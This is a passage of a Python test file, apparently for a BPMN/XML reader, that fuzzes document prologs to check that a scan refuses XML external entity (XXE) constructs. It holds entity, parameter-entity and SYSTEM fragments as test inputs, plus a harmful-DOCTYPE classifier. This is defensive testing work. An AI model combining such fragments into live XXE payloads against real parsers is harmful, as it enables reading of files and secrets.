        assert done.status == Status.UNREAD
        assert SECRET not in str(done)
    assert not target.parent.exists()
    assert bait.hits == []


def test_one_file_does_not_decide_about_the_next() -> None:
    odd = f"<definitions {NS} xmlns:a='a b'><a:x/></definitions>".encode()
    for broken in (b"<definitions>", b"<a xmlns:b='c d'", b"<x:y/>"):
        with pytest.raises(InvalidDocument):
            Source(broken)
        assert Source(odd).to_bytes() == odd


TOKENS = (
    "<!DOCTYPE definitions", " [", "]", ">", "]>", " ", "\n", "<!-- ", " -->", "<?x ", "?>", "'", '"',
    "<!ELEMENT a ANY>", "<!ATTLIST process id ID #IMPLIED>", "<!ATTLIST process name CDATA 'd'>",
    "<!ENTITY e 'x'>", "<!ENTITY % p '<!ENTITY e \"x\">'>", "%p;", " SYSTEM", "<definitions>", "<!NOTATION n PUBLIC 'x'>",
    "<!-- it's -->", '<!-- " ]> -->', "<?it 's ]>?>", '<!ATTLIST a b CDATA "]>">',
)  # fmt: skip


def test_no_prolog_slips_an_entity_past_the_scan() -> None:
    """Whatever the parser takes for a harmful DOCTYPE, the scan before it has refused."""
    counted = Counter[str]()
    chance = random.Random(8412)  # noqa: S311 - no secret
    for _ in range(6_000):
        words = chance.choices(TOKENS, k=chance.randint(1, 8))
        opening = chance.choice(
            ["", "<!DOCTYPE definitions [", "<!-- a --><!DOCTYPE definitions ["]
        )
        closing = "]>" if opening and chance.random() < 0.9 else ""
        body = using(chance.choice(["", "&e;"]))
        data = f"{opening}{''.join(words)}{closing}{body}".encode()
        kind = judge_prolog(data)
        counted[kind] += 1
        try:
            source = Source(data)
        except UnsafeDocument:
            assert kind != "harmless", data
        except InvalidDocument:
            assert kind == "broken", data
        else:
            assert kind in {"harmless", "unclear"}, data
            source.root.set("exporter", "edited")
            assert Source(source.to_bytes()).root.get("exporter") == "edited"
            del source.root.attrib["exporter"]
            assert source.to_bytes() == data
    assert min(counted[kind] for kind in ("harmful", "harmless", "broken")) > 100


def judge_prolog(data: bytes) -> str:
    """Say what libxml2 thinks of a file, with nothing loaded and nothing expanded."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    try:
        root = etree.fromstring(data, parser)
    except etree.XMLSyntaxError:
        return "broken"
    dtd = root.getroottree().docinfo.internalDTD
    if dtd is None:
        return "harmless"
    harm = [*dtd.iterentities(), *root.iter(etree.Entity)]
    if harm or dtd.external_id or dtd.system_url:
        return "harmful"
    # The parser does not tell what it made of these; they may stand in a comment.
    return "unclear" if re.search(rb"<!NOTATION|%p;|CDATA", data) else "harmless"


def test_errors_travel_between_processes(tmp_path: Path) -> None:
    path = tmp_path / "m.bpmn"
    path.write_text(f"\n<!DOCTYPE d [{XXE}]>{BODY}")
    with pytest.raises(CjbpmnError) as caught:
        read_document(path)
    assert (caught.value.path, caught.value.line) == (str(path), 2)
